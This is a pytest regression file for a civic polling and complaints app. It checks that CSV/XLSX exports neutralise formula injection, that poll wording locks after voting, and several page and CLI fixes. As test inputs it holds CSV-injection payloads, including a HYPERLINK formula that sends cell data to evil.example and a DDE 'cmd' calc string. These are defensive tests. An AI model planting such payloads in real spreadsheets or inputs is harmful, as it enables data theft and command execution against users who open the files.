"""The twenty-first pass's newcomer probe (probe21) of exports and poll pages; each test fails on
the old code:

1. (#1) A poll option beginning with ``=`` became a live formula in the results XLSX and was written
   raw into the results and bulletin CSV (web, console and ``civicbot polls export``). Every CSV
   and XLSX export now goes through one guard, ``civicbot.spreadsheet`` (OWASP's CSV-injection rule).
2. (#13) On an open poll with live results the page linked "Public bulletin (JSON)", a raw 403.
3. (#22) An official could reword an open poll's title and description after ballots were cast.
4. (#26) A receipt of another poll was "not found" on a poll's page.
5. (#24, the CLI) ``civicbot polls verify`` printed "1 ballots".
"""

from __future__ import annotations

import asyncio
import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest
from conftest import issue_official_token, settings_db
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from test_console import console_env, console_index, make_account, page_csrf, sign_in  # noqa: F401
from test_console import poll_form as console_form
from test_polls_api import _auth, cast, create_poll, new_session

from civicbot import cli, keys, officials, polls, spreadsheet, triage, voicemap
from civicbot.categories import catalogue_for
from civicbot.geo import Place

ROOT = Path(__file__).resolve().parent.parent
DANGEROUS = spreadsheet.FORMULA_STARTS
# What a person may write after the first character: letters, digits, punctuation, symbols (no
# white space, so the text survives the hygiene every poll text goes through unchanged in length).
WORDS = st.text(st.characters(categories=["L", "N", "P", "S"], codec="utf-8"), min_size=1, max_size=30)


@pytest.fixture
def settings_(make_settings, console_env):  # noqa: F811
    """The console's settings (an empty knowledge folder: a quick start)."""
    return make_settings(**console_env)


@pytest.fixture
def official(settings_) -> str:
    return issue_official_token(settings_)


def fuzz(loop, check, strategy, examples: int = 25) -> None:
    """A Hypothesis test run in this worker thread; each example awaits ``check`` on the app's loop."""

    @settings(max_examples=examples, deadline=None, database=None, suppress_health_check=list(HealthCheck))
    @given(strategy)
    def run(value) -> None:
        asyncio.run_coroutine_threadsafe(check(value), loop).result(120)

    run()


# -- 1. one guard for every spreadsheet cell ---------------------------------------------------------
@given(st.sampled_from(DANGEROUS), st.text(max_size=40))
def test_a_text_starting_like_a_formula_gets_a_leading_quote(first, rest):
    value = first + rest
    assert spreadsheet.cell(value) == "'" + value
    assert spreadsheet.cell(spreadsheet.cell(value)) == "'" + value  # twice changes nothing more


@given(st.text(max_size=40).filter(lambda s: not s.startswith(DANGEROUS)))
def test_any_other_text_or_value_is_unchanged(value):
    assert spreadsheet.cell(value) == value
    for other in (None, 3, -3, 2.5, -0.5):
        assert spreadsheet.cell(other) == other


def safe_csv(data: bytes) -> list[list[str]]:
    """The rows of a CSV export; no cell starts like a formula."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    risky = [cell for row in rows for cell in row if cell.startswith(DANGEROUS)]
    assert risky == [], risky
    return rows


def safe_xlsx(data: bytes) -> list:
    """Every cell value of an XLSX export; no formula cell, no text starting like one."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    formulas = [(cell.coordinate, cell.value) for cell in cells if cell.data_type == "f"]
    assert formulas == [], formulas
    values = [cell.value for cell in cells]
    assert [v for v in values if isinstance(v, str) and v.startswith(DANGEROUS)] == []
    return values


def shown(label: str) -> str:
    """A label as a spreadsheet export writes it."""
    return spreadsheet.cell(label)  # type: ignore[return-value]


async def test_poll_exports_show_formula_like_options_as_text(
    settings_, make_client, official, tmp_path, monkeypatch
):
    """probe21 #1: options a citizen's proposal (or an official) wrote as ``=HYPERLINK(...)``,
    ``-2+3+cmd|' /C calc'!A0``, ``+...`` or ``@...``: the admin API's results CSV and XLSX and
    bulletin CSV, the console's downloads and ``civicbot polls export`` all write them as text."""
    make_account(settings_, "seo", "viewer")
    client = await make_client(settings_)
    await sign_in(client, "seo")
    voter = await new_session(client)
    for key, value in {
        "CIVICBOT_DATA_DIR": str(settings_.data_dir),
        "CIVICBOT_SECRET_KEY": "test-secret-key",
        "CIVICBOT_POLLS_DIR": str(ROOT / "polls"),
        "CIVICBOT_DATABASE_URL": "",
    }.items():
        monkeypatch.setenv(key, value)

    async def check(example: tuple[str, str, str]) -> None:
        first, second, words = example
        options = [first + words, second + words + "2", '=HYPERLINK("http://evil.example/?"&A1,"Click")']
        poll = await create_poll(client, official, title="=" + words, options=options, results="live")
        pid, labels = poll["id"], [o["label"] for o in poll["options"]]
        assert all(label.startswith(("=", "+", "-", "@")) for label in labels)
        status, _ = await cast(client, pid, voter, {"choices": [1]})
        assert status == 201
        downloads = {
            path: await (await client.get(path, headers=_auth(official))).read()
            for path in (
                f"/api/admin/polls/{pid}/export.csv",
                f"/api/admin/polls/{pid}/export.xlsx",
                f"/api/admin/polls/{pid}/bulletin.csv",
                f"/admin/polls/{pid}/results.csv",
                f"/admin/polls/{pid}/results.xlsx",
                f"/admin/polls/{pid}/bulletin.csv",
            )
        }
        for fmt in ("csv", "xlsx"):  # the command line, to files
            out = tmp_path / f"cli-{pid}.{fmt}"
            code = await asyncio.to_thread(
                cli.main, ["polls", "export", str(pid), "--format", fmt, "-o", str(out)]
            )
            assert code == 0
            downloads[f"cli.{fmt}"] = out.read_bytes()
        for path, data in downloads.items():
            if path.endswith("xlsx"):
                values = safe_xlsx(data)
                assert {shown(label) for label in labels} <= set(values), path
            else:
                cells = {cell for row in safe_csv(data) for cell in row}
                if "bulletin" in path:  # the ballot's choice, by its label
                    assert shown(labels[0]) in cells, path
                else:
                    assert {shown(label) for label in labels} <= cells, path

    loop = asyncio.get_running_loop()
    strategy = st.tuples(st.sampled_from("=+-@"), st.sampled_from("=+-@"), WORDS)
    await loop.run_in_executor(None, fuzz, loop, check, strategy, 12)


async def test_the_audit_log_export_shows_a_typed_formula_as_text(settings_, make_client):
    """A name typed at the sign-in form is written to the audit log; its CSV shows it as text,
    whatever the formula start (the old guard missed the tab and the carriage return)."""
    make_account(settings_, "ahn", "admin")
    client = await make_client(settings_)

    def log(conn, name: str) -> None:
        officials.audit(conn, "anonymous", "signin.failed", name)

    typed = [c + 'HYPERLINK("http://evil.example")' for c in DANGEROUS]
    database = client.app[keys.DATABASE]
    for name in typed:
        await database.execute_write_fn(lambda conn, n=name: log(conn, n))
    await sign_in(client, "ahn")
    response = await client.get("/admin/audit.csv")
    assert response.status == 200
    cells = {cell for row in safe_csv(await response.read()) for cell in row}
    assert {"'" + name for name in typed} <= cells


def test_the_complaints_exports_use_the_same_guard(settings_):
    """Reports' CSV and XLSX (console and ``civicbot complaints export``) through the one guard."""
    catalogue = catalogue_for(ROOT / "services")
    place = Place("서울특별시", "11440", "마포구", "Mapo-gu", "서교동", 37.5563, 126.9220, True)
    with settings_db(settings_) as conn:
        for i, first in enumerate("=+-@"):
            new = voicemap.NewComplaint(
                text=f'{first}HYPERLINK("http://evil.example/{i}") 보도블록이 깨졌어요',
                category="road_damage",
                place=place,
                language="ko",
                channel="web",
                user_id=f"user-{i}",
                reply_to=f"session-{i}",
            )
            voicemap.submit(conn, new, catalogue, "Asia/Seoul")
        text = voicemap.export_csv(conn, voicemap.Filters(public_only=False), catalogue, "Asia/Seoul")
        book = triage.export_xlsx(conn, voicemap.Filters(public_only=False), catalogue, "Asia/Seoul", "ko")
    descriptions = [row[-3] for row in safe_csv(text.encode("utf-8"))[1:]]
    assert len(descriptions) == 4 and all(d.startswith("'") for d in descriptions)
    assert set(descriptions) <= set(safe_xlsx(book))


# -- 2. the bulletin link waits for the close ----------------------------------------------------------
async def test_an_open_polls_page_says_when_the_bulletin_is_published(settings_, make_client, official):
    """probe21 #13: live results showed the link to /api/polls/{id}/bulletin, a raw 403 until
    the close. Now the page says when it is published, and links it once it is."""
    client = await make_client(settings_)
    poll = await create_poll(client, official, results="live")
    pid = poll["id"]
    link = f'href="/api/polls/{pid}/bulletin"'
    for lang, said in (
        ("", "공개 게시판(영수증마다 선택과 해시)은 투표가 마감되는"),
        ("?lang=en", "is published when the poll closes"),
    ):
        page = await (await client.get(f"/polls/{pid}{lang}")).text()
        assert link not in page and said in page, lang
    assert (await client.get(f"/api/polls/{pid}/bulletin")).status == 403
    assert (await client.post(f"/api/admin/polls/{pid}/close", headers=_auth(official))).status == 200
    page = await (await client.get(f"/polls/{pid}")).text()
    assert link in page and "투표가 마감되는" not in page
    assert (await client.get(f"/api/polls/{pid}/bulletin")).status == 200


# -- 3. the question is locked once people have voted --------------------------------------------------
async def test_the_question_cannot_be_reworded_after_a_vote(settings_, make_client):
    """probe21 #22: the console's edit form shows the question read-only once a ballot is in,
    and the server refuses a reworded title or description (both languages) with the reason beside
    the field; the closing time may still change. Before any vote the wording is free."""
    make_account(settings_, "yoo", "official")
    client = await make_client(settings_)
    await sign_in(client, "yoo")
    csrf = await page_csrf(client, "/admin/polls/new")
    created = await client.post("/admin/polls/new", data=console_form(csrf), allow_redirects=False)
    url = created.headers["Location"].split("?")[0]
    pid = int(url.rsplit("/", 1)[1])
    renamed = await client.post(
        f"{url}/edit", data=console_form(csrf, title_ko="공원에 먼저 놓을 것"), allow_redirects=False
    )
    assert renamed.status == 303  # no ballot yet: free to reword
    assert (
        await client.post(f"{url}/open", data={"csrf": csrf, "confirm": "yes"}, allow_redirects=False)
    ).status == 303
    status, _ = await cast(client, pid, await new_session(client), {"choices": [2]})
    assert status == 201

    form = await (await client.get(f"{url}/edit")).text()
    for field in ("title_ko", "title_en", "option_ko_1"):
        assert re.search(rf'id="{field}"[^>]* readonly', form), field
    for field in ("description_ko", "description_en"):
        assert re.search(rf'<textarea id="{field}"[^>]* readonly', form), field
    assert "질문(제목·설명)" in form

    base = console_form(csrf, title_ko="공원에 먼저 놓을 것")
    for field in ("title_ko", "title_en", "description_ko", "description_en"):
        refused = await client.post(f"{url}/edit", data={**base, field: base[field] + " (수정)"})
        html = await refused.text()
        assert refused.status == 400, field
        assert "이미 투표한 사람이 있어서 이 항목은 바꿀 수 없어요" in html, field
        assert f'value="{base[field]} (수정)"' not in html and f">{base[field]} (수정)<" not in html
    later = await client.post(
        f"{url}/edit", data={**base, "closes_at": "2099-12-30T18:00"}, allow_redirects=False
    )
    assert later.status == 303
    poll = await client.app[keys.DATABASE].execute_fn(lambda c: polls.get_poll(c, pid))
    assert (poll.title_ko, poll.description_en) == ("공원에 먼저 놓을 것", "Pick one.")
    assert poll.closes_at.day == 30


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(field=st.sampled_from(["title", "description"]), lang=st.sampled_from(["ko", "en"]), words=WORDS)
def test_any_rewording_of_a_voted_question_is_refused(settings_, field, lang, words):
    """Every path that changes a poll (the console, a poll file's sync) goes through update_poll:
    any new text for the title or description, in either language, is refused once a ballot is in."""
    zone = settings_.zone
    with settings_db(settings_) as conn:
        spec = polls.parse_spec(
            {
                "title": "질문",
                "description": "설명",
                "options": ["가", "나"],
                "opens_at": "2020-01-01T00:00",
                "closes_at": "2099-01-01T00:00",
            },
            zone,
        )
        poll = polls.create_poll(conn, spec, "test")
        polls.cast_vote(conn, b"s", poll.id, polls.Voter("web", "1"), [1])
        definition = polls.definition(poll)
        texts = dict(definition[field])
        texts[lang] = texts[lang] + words
        changed = polls.parse_spec({**definition, field: texts}, zone)
        with pytest.raises(polls.SpecError) as refused:
            polls.update_poll(conn, poll, changed, "test")
        assert refused.value.field == field and refused.value.key == "locked"
        assert polls.get_poll(conn, poll.id).title_ko == "질문"


# -- 4. a receipt of another poll ------------------------------------------------------------------------
async def test_a_receipt_of_another_poll_names_and_links_it(settings_, make_client, official):
    """probe21 #26: the page said "not found"; it now says which poll the receipt is from, with a
    link, in any spelling of the receipt (lowercase, groups, full-width)."""
    client = await make_client(settings_)
    first = await create_poll(client, official, title={"ko": "첫째 투표", "en": "First poll"})
    second = await create_poll(client, official, title={"ko": "둘째 투표", "en": "Second poll"})
    _, ballot = await cast(client, first["id"], await new_session(client), {"choices": [1]})
    receipt = ballot["receipt"]
    fid, sid = first["id"], second["id"]

    async def check(spelling: str) -> None:
        for lang, said in (
            ("", f"투표 #{fid} 「첫째 투표」의 것이에요"),
            ("?lang=en", f"from poll #{fid}, “First poll”"),
        ):
            page = await (await client.post(f"/polls/{sid}{lang}", data={"receipt": spelling})).text()
            assert said in page and f'href="/polls/{fid}{lang}"' in page, (spelling, lang)
            assert "찾지 못했어요" not in page and "No ballot of this poll" not in page
        own = await (await client.post(f"/polls/{fid}", data={"receipt": spelling})).text()
        assert "집계됐어요" in own and "의 것이에요" not in own

    groups = [receipt[i : i + 4] for i in range(0, 26, 4)]
    spellings = st.sampled_from(
        [
            receipt,
            receipt.lower(),
            "-".join(groups),
            " ".join(groups).lower(),
            receipt.translate({c: c + 0xFEE0 for c in range(0x21, 0x7F)}),
        ]
    )
    loop = asyncio.get_running_loop()
    await loop.run_in_executor(None, fuzz, loop, check, spellings, 10)
    unknown = await (await client.post(f"/polls/{sid}", data={"receipt": "A" * 26})).text()
    assert "이 투표에서 그 영수증 코드를 찾지 못했어요" in unknown


# -- 5. the command line counts in words -----------------------------------------------------------------
def test_the_cli_says_one_ballot_and_two_ballots(settings_, monkeypatch, capsys, tmp_path):
    """probe21 #24 (the CLI half): "1 ballots" -> "1 ballot"; "wrote N reports" counts rows, not
    lines (a description may hold a line break)."""
    for key, value in {
        "CIVICBOT_DATA_DIR": str(settings_.data_dir),
        "CIVICBOT_SECRET_KEY": "test-secret-key",
        "CIVICBOT_POLLS_DIR": str(ROOT / "polls"),
        "CIVICBOT_SERVICES_DIR": str(ROOT / "services"),
        "CIVICBOT_DATABASE_URL": "",
    }.items():
        monkeypatch.setenv(key, value)
    with settings_db(settings_) as conn:
        spec = polls.parse_spec(
            {
                "title": "셈",
                "options": ["가", "나"],
                "opens_at": "2020-01-01T00:00",
                "closes_at": "2099-01-01T00:00",
            },
            settings_.zone,
        )
        poll = polls.create_poll(conn, spec, "test")
        polls.cast_vote(conn, b"s", poll.id, polls.Voter("web", "1"), [1])
    assert cli.main(["polls", "verify", str(poll.id)]) == 0
    out = capsys.readouterr().out
    assert f"poll {poll.id} (셈): 1 ballot, chain head" in out
    with settings_db(settings_) as conn:
        polls.cast_vote(conn, b"s", poll.id, polls.Voter("web", "2"), [2])
    assert cli.main(["polls", "verify", str(poll.id)]) == 0
    assert "2 ballots, chain head" in capsys.readouterr().out

    place = Place("서울특별시", "11440", "마포구", "Mapo-gu", "서교동", 37.5563, 126.9220, True)
    with settings_db(settings_) as conn:
        new = voicemap.NewComplaint(
            text="보도블록이 깨졌어요.\n밤에는 특히 위험해요.",
            category="road_damage",
            place=place,
            language="ko",
            channel="web",
            user_id="user-1",
            reply_to="session-1",
        )
        voicemap.submit(conn, new, catalogue_for(ROOT / "services"), "Asia/Seoul")
    out_file = tmp_path / "reports.csv"
    assert cli.main(["complaints", "export", "-o", str(out_file)]) == 0
    assert f"wrote 1 report to {out_file}" in capsys.readouterr().out
